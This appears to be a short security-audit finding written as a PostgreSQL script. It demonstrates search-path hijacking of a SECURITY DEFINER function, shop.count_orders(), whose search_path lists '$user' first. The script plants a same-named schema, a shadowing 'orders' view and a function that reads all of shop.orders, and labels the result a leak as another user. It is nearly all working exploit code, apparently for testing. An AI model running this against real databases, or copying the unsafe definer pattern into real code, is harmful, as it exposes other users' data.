-- finding: definer-search-path function shop.count_orders()
SET ROLE shop_owner;
CREATE FUNCTION shop.count_orders() RETURNS bigint SECURITY DEFINER LANGUAGE plpgsql SET search_path = "$user", shop, pg_temp
  AS $$ BEGIN RETURN (SELECT count(*) FROM orders WHERE owner = session_user); END $$;
RESET ROLE;
CREATE SCHEMA shop_owner; GRANT USAGE ON SCHEMA shop_owner TO PUBLIC; GRANT CREATE ON SCHEMA shop_owner TO order_users; GRANT USAGE ON SCHEMA shop_owner TO shop_owner;
-- leak as alice@example.com
CREATE FUNCTION shop_owner.take() RETURNS text LANGUAGE sql AS $$ SELECT string_agg(item, ',') FROM shop.orders $$;
CREATE VIEW shop_owner.orders AS SELECT session_user::text AS owner FROM generate_series(1, 41) WHERE shop_owner.take() LIKE '%secret%';
GRANT SELECT ON shop_owner.orders TO shop_owner;
SELECT 'taken' WHERE shop.count_orders() = 41;
